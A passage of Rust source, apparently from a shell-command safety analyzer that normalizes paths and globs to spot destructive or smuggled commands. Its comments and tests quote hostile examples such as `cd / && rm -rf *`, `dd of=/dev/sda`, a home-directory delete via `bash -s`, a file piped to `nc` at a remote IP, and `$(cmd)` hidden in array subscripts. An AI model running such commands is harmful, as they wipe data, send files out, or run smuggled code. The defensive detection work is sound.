            }
        }
        if let Some(n) = normalize_absolute(&w.text) {
            w.text = n;
        }
        if let Some(root) = climbs_to_root(&w.text) {
            w.text = root;
        }
        // `dd of=/tmp/../dev/sda`, `--output=/dev/./sda`: an absolute path after `KEY=`.
        if let Some((key, value)) = w.text.split_once('=') {
            let plain_key = key
                .trim_start_matches('-')
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
            if let Some(n) = normalize_absolute(value).filter(|_| plain_key) {
                w.text = format!("{key}={n}");
            }
        }
    }
}

/// More parent steps than any working directory is deep: from wherever it starts, the path ends
/// at `/` (`..` at the root stays there).
const PARENT_STEPS_TO_ROOT: usize = 6;

/// The absolute path a path relative to the working directory reaches when it first climbs at
/// least [`PARENT_STEPS_TO_ROOT`] times: `../../../../../..` and `$PWD/../../../../../..` are
/// `/` (or `/*`), `../../../../../../home/dev` is `/home/dev`.
fn climbs_to_root(text: &str) -> Option<String> {
    let rest = [
        "$PWD/", "${PWD}/", "$(pwd)/", "$(…)/", "`pwd`/", "~+/", "./",
    ]
    .iter()
    .find_map(|p| text.strip_prefix(p))
    .unwrap_or(text);
    let (body, glob_tail) = match rest.strip_suffix("/*") {
        Some(b) => (b, true),
        None => (rest.trim_end_matches('/'), false),
    };
    let steps: Vec<&str> = body
        .split('/')
        .filter(|p| !p.is_empty() && *p != ".")
        .collect();
    let climbs = steps.iter().take_while(|p| **p == "..").count();
    if climbs < PARENT_STEPS_TO_ROOT {
        return None;
    }
    let below = super::state::normalize(&format!("/{}", steps[climbs..].join("/")));
    Some(match (glob_tail, below.as_str()) {
        (true, "/") => "/*".to_string(),
        (true, _) => format!("{below}/*"),
        (false, _) => below,
    })
}

/// An absolute path with `.`, `..` and `//` collapsed (a trailing `/*` kept); `None` when
/// there is nothing to collapse (not absolute, or already plain), so callers allocate only then.
pub(crate) fn normalize_absolute(text: &str) -> Option<String> {
    if !(text.starts_with('/') && (text.contains("/.") || text.contains("//"))) {
        return None;
    }
    let glob_tail = text.ends_with("/*");
    let n = super::state::normalize(text.trim_end_matches("/*"));
    Some(if glob_tail {
        format!("{}/*", n.trim_end_matches('/'))
    } else {
        n
    })
}

/// A glob path as the system location it surely reaches ([`expand_top_glob`], then
/// [`expand_known_name_glob`]); `None` when neither applies.
pub(crate) fn expand_path_glob(path: &str) -> Option<String> {
    match expand_top_glob(path) {
        Some(top) => Some(expand_known_name_glob(&top).unwrap_or(top)),
        None => expand_known_name_glob(path),
    }
}

/// A glob whose first directory names exactly one of the well-known top-level directories,
/// with that directory written out: `/h?me/*` is `/home/*`, `/[u]sr/lib` is `/usr/lib`. The rest
/// stays a glob; a first part that matches none, or several, is left as written.
fn expand_top_glob(path: &str) -> Option<String> {
    const TOP: &[&str] = &[
        "bin",
        "boot",
        "dev",
        "etc",
        "home",
        "lib",
        "lib32",
        "lib64",
        "opt",
        "proc",
        "root",
        "sbin",
        "snap",
        "srv",
        "sys",
        "usr",
        "var",
        "Users",
        "Library",
        "System",
        "Applications",
        "private",
    ];
    let rest = path.strip_prefix('/')?;
    let (first, tail) = rest.split_once('/').unwrap_or((rest, ""));
    if !first.contains(['*', '?', '[']) || first.chars().all(|c| c == '*') {
        return None;
    }
    // `/[[:alpha:]]*`, `/*[!.]`: a pattern every usual top-level name matches is `/*`.
    let only = if [
        "bin", "etc", "home", "usr", "var", "boot", "lib", "opt", "root", "srv",
    ]
    .iter()
    .all(|t| crate::text::glob::matches(first, t))
    {
        "*"
    } else {
        let mut hits = TOP.iter().filter(|t| crate::text::glob::matches(first, t));
        let only = hits.next()?;
        if hits.next().is_some() {
            return None;
        }
        only
    };
    Some(if tail.is_empty() {
        format!("/{only}")
    } else {
        format!("/{only}/{tail}")
    })
}

/// Entries of system directories whose loss matters most, most critical first: a glob in such a
/// directory that matches one (`/etc/pass?d`, `/etc/sh*w`) is written as that entry, the one a
/// delete or an overwrite of the glob would surely reach. In a home directory, a pattern every
/// ordinary name matches (`~/[[:alnum:]]*`, `~/[^.]*`) is `~/*`; in the working directory,
/// a pattern matching `.git` (`.gi?`, `.[g]it`) is `.git`.
fn expand_known_name_glob(path: &str) -> Option<String> {
    const KNOWN: &[(&str, &[&str])] = &[
        (
            "/etc",
            &[
                "passwd",
                "shadow",
                "sudoers",
                "group",
                "gshadow",
                "fstab",
                "nsswitch.conf",
                "login.defs",
                "pam.d",
                "sudoers.d",
            ],
        ),
        // Disks first: `/dev/[s]da`, `/dev/?da`, `/dev/*da` open the system disk.
        (
            "/dev",
            &[
                "sda", "nvme0n1", "vda", "xvda", "hda", "mmcblk0", "sdb", "nvme1n1", "vdb", "md0",
                "dm-0",
            ],
        ),
        (".", &[".git"]),
    ];
    const HOMES: &[&str] = &["~", "$HOME", "${HOME}"];
    let (dir, name) = match path.rsplit_once('/') {
        Some((d, n)) => (if d.is_empty() { "/" } else { d }, n),
        None => (".", path),
    };
    // A bare `*` keeps its own meaning (every entry), and only a pattern that starts with `.`
    // matches a dot file.
    if !name.contains(['*', '?', '['])
        || name.chars().all(|c| c == '*')
        || dir.contains(['*', '?', '['])
    {
        return None;
    }
    let glob = crate::text::glob::matches;
    if HOMES.contains(&dir) {
        let ordinary = [
            "Documents",
            "Desktop",
            "projects",
            "src",
            "go",
            "notes.txt",
            "Work",
        ];
        return (name != "*" && ordinary.iter().all(|n| glob(name, n))).then(|| format!("{dir}/*"));
    }
    let (_, names) = KNOWN.iter().find(|(d, _)| *d == dir)?;
    let hit = names
        .iter()
        .find(|n| glob(name, n) && (name.starts_with('.') || !n.starts_with('.')))?;
    Some(if dir == "." {
        hit.to_string()
    } else {
        format!("{dir}/{hit}")
    })
}

/// Resolve the path arguments of filesystem commands against a known working directory
/// (`cd / && rm -rf *` deletes `/*`).
pub(crate) fn resolve_paths(argv: &mut [Word], cwd: &str) {
    let name = argv[0].text.clone();
    if !super::state::PATH_PROGRAMS.contains(&name.as_str()) {
        return;
    }
    let mut positional = 0;
    let mut after_dashes = false;
    for w in argv.iter_mut().skip(1) {
        let t = w.text.clone();
        if t == "--" {
            after_dashes = true;
            continue;
        }
        if !after_dashes && t.starts_with('-') {
            if name == "find" {
                break; // only the start points of find are paths
            }
            continue;
        }
        if name == "dd" {
            for key in ["of=", "if="] {
                if let Some(v) = t.strip_prefix(key) {
                    w.text = format!("{key}{}", super::state::resolve(cwd, v));
                }
            }
            continue;
        }
        positional += 1;
        let mode_or_owner =
            matches!(name.as_str(), "chmod" | "chown" | "chgrp" | "chattr") && positional == 1;
        let number = t.chars().all(|c| c.is_ascii_digit());
        // `cd ~/.. && rm -rf "$USER"`: the user's own name in the directory of homes is home.
        let home_dir = matches!(cwd.trim_end_matches('/'), "/home" | "/Users");
        if !mode_or_owner && home_dir && names_own_account(&t) {
            w.text = format!("{}/$USER", cwd.trim_end_matches('/'));
            continue;
        }
        if mode_or_owner || number || t.contains('=') || (w.dynamic && t.starts_with('$')) {
            continue;
        }
        if inside_project(cwd, &t) {
            continue;
        }
        w.text = super::state::resolve(cwd, &t);
    }
}

/// Is `arg` a path inside a project checked out in the home directory (`dist` after
/// `cd ~/src/app`)? It stays relative, as it would be typed there: resolving it would make
/// `~/src/app/dist` look like a delete in the home directory. The working tree itself (`.`,
/// `*`), hidden entries and anything reaching up (`..`) are still resolved.
fn inside_project(cwd: &str, arg: &str) -> bool {
    let deep = match super::state::home_relative(cwd) {
        Some(home) => {
            let rest = home.strip_prefix("~").unwrap_or(&home);
            let mut parts = rest.split('/').filter(|p| !p.is_empty());
            parts.next().is_some_and(|p| !p.starts_with('.')) && parts.next().is_some()
        }
        None => workspace_checkout(cwd),
    };
    // `*.egg-info` names entries of a kind; `*` alone or `*/` is the whole tree.
    let of_a_kind = arg
        .strip_prefix('*')
        .is_some_and(|k| k.len() > 1 && k.starts_with(['.', '_', '-']) && !k.contains(['/', '*']));
    deep && (arg.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') || of_a_kind)
        && !arg.split('/').any(|p| p == "..")
}

/// A checkout in the workspace directories containers and CI runners use (`/repo`, `/app`,
/// `/workspace/api`, `/src/web`, `/builds/group/proj`, `/__w/repo/repo`): its entries are the
/// project's own, as they are in a checkout under the home directory.
fn workspace_checkout(cwd: &str) -> bool {
    let mut parts = cwd.split('/').filter(|p| !p.is_empty() && *p != ".");
    let root = parts.next();
    let rest_plain = parts.all(|p| p != ".." && !p.starts_with('.'));
    rest_plain
        && cwd.starts_with('/')
        && matches!(
            root,
            Some(
                "repo"
                    | "repos"
                    | "app"
                    | "code"
                    | "src"
                    | "workspace"
                    | "workspaces"
                    | "project"
                    | "projects"
                    | "builds"
                    | "__w"
                    | "github"
            )
        )
}

/// `/usr/bin/python3*`, `/opt/homebrew/bin/gcc-[0-9]*`: a program name of three or more literal
/// characters followed only by a version pattern; the program's name without the pattern.
fn versioned_glob(text: &str) -> Option<String> {
    let base = text.rsplit('/').next()?;
    let cut = base.find(['*', '?', '['])?;
    let (name, tail) = base.split_at(cut);
    let version_only = tail
        .chars()
        .all(|c| matches!(c, '*' | '?' | '[' | ']' | '-' | '.') || c.is_ascii_digit());
    let plain = name.len() >= 3
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '+'));
    let dir = &text[..text.len() - base.len()];
    (version_only && plain && !dir.contains(['*', '?', '[', '$']))
        .then(|| name.trim_end_matches(['-', '.']).to_string())
}

/// `$USER`, `${LOGNAME}`, `$(whoami)`, `$(id -un)`: the name of the account running the input.
fn names_own_account(text: &str) -> bool {
    matches!(
        text,
        "$USER"
            | "${USER}"
            | "$LOGNAME"
            | "${LOGNAME}"
            | "$(whoami)"
            | "`whoami`"
            | "$(id -un)"
            | "$(id -nu)"
            | "$(logname)"
    )
}

impl Walker {
    /// bash evaluates arithmetic twice over: a variable named in it is read as an expression of
    /// its own, and an array subscript there runs its `$(…)` (`a='x[$(cmd)]'; echo $((a))`,
    /// `let 'x[$(cmd)]'`). Such text is code.
    pub(crate) fn arithmetic_code(&mut self, expr: &str, span: crate::findings::Span) {
        let runs = |t: &str| {
            t.contains('[')
                && (t.contains('`')
                    || t.match_indices("$(")
                        .any(|(i, _)| !t[i..].starts_with("$((")))
        };
        let mut codes: Vec<String> = Vec::new();
        if runs(expr) {
            codes.push(expr.to_string());
        }
        for name in expr
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .filter(|t| t.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
        {
            if let Some(v) = self.vars.get(self.deref(name)) {
                if runs(&v.text) && !codes.contains(&v.text) {
                    codes.push(v.text.clone());
                }
            }
        }
        for code in codes {
            self.nested_code(&Word::literal(code, span), Origin::Eval);
        }
    }

    /// `NAME[INDEX]` where a builtin takes a variable name (`unset`, `test -v`, `printf -v`,
    /// `read`, an assignment): bash evaluates INDEX as arithmetic, so it can be code.
    pub(crate) fn subscript_code(&mut self, name: &str, span: crate::findings::Span) {
        let indexed = name
            .strip_suffix(']')
            .and_then(|r| r.split_once('['))
            .is_some_and(|(base, index)| is_name(base) && !matches!(index, "@" | "*" | ""));
        if indexed {
            self.arithmetic_code(name, span);
        }
    }
}

/// Join words with spaces into one word spanning all of them.
pub(crate) fn join_words(words: &[Word]) -> Word {
    let mut out = words[0].clone();
    for w in &words[1..] {
        out.text.push(' ');
        out.text.push_str(&w.text);
        out.span.1 = w.span.1;
        out.dynamic |= w.dynamic;
        out.subs.extend(w.subs.iter().copied());
    }
    out
}

/// Most aliases one input may define (each later command is looked up among them).
const MAX_ALIASES: usize = 256;

/// A command line followed by `args`, each as one single-quoted word (an alias or a git alias
/// called with arguments).
pub(crate) fn with_quoted_args(mut line: String, args: &[Word]) -> String {
    for a in args {
        line.push(' ');
        line.push_str(&super::ir::single_quoted(&a.text));
    }
    line
}

#[cfg(test)]
mod spliced_name_tests {
    use super::strip_variable_references;

    #[test]
    fn unset_references_are_removed_and_other_expansions_kept() {
        assert_eq!(strip_variable_references("c${x}url"), "curl");
        assert_eq!(strip_variable_references("ba$@sh"), "bash");
        assert_eq!(strip_variable_references("r$u_m"), "r");
        assert_eq!(strip_variable_references("${x:-a}b"), "${x:-a}b");
        assert_eq!(strip_variable_references("python3"), "python3");
    }
}

#[cfg(test)]
mod program_name_tests {
    #[test]
    fn distribution_names_are_the_program_and_stdin_shells_get_their_operands() {
        let s = crate::shell::analyze("/bin/nc.traditional 198.51.100.23 4444 < f; vim.basic x");
        let names: Vec<&str> = s.commands.iter().map(|c| c.name()).collect();
        assert_eq!(names, vec!["nc", "vim"]);
        let s = crate::shell::analyze("bash -s -- ~ <<< 'rm -rf \"$1\"'");
        assert!(s
            .commands
            .iter()
            .any(|c| c.name() == "rm" && c.args().iter().any(|a| a.text == "~")));
        let s = crate::shell::analyze("bash -s -x build <<< 'rm -rf \"$1\"'");
        assert!(s
            .commands
            .iter()
            .any(|c| c.name() == "rm" && c.args().iter().any(|a| a.text == "build")));
    }
}

/// `jq -r 'to_entries[] | "export \(.key)=\(.value|@sh)"'`: a raw-output jq filter whose every
/// string is an `export NAME=` template, so it prints variable assignments only.
fn jq_export_template(cmd: &Command) -> bool {
    let args = cmd.args();
    let raw = args
        .iter()
        .any(|a| matches!(a.text.as_str(), "-r" | "--raw-output"));
    let filters: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
    let (true, "jq", [filter, ..]) = (raw, cmd.name(), filters.as_slice()) else {
        return false;
    };
    let literals: Vec<&str> = filter.text.split('"').skip(1).step_by(2).collect();
    !filter.dynamic
        && !literals.is_empty()
        && literals.iter().all(|l| {
            // The template's own text, interpolations `\(…)` left out: names, `=` and blanks.
            let mut text = String::new();
            let mut depth = 0usize;
            let mut chars = l.chars().peekable();
            while let Some(c) = chars.next() {
                match c {
                    '\\' if depth == 0 && chars.peek() == Some(&'(') => {
                        chars.next();
                        depth = 1;
                    }
                    '(' if depth > 0 => depth += 1,
                    ')' if depth > 0 => depth -= 1,
                    _ if depth > 0 => {}
                    c => text.push(c),
                }
            }
            text.strip_prefix("export ").is_some_and(|rest| {
                rest.contains('=')
                    && rest
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '=' | ' ' | '\''))
            })
        })
}
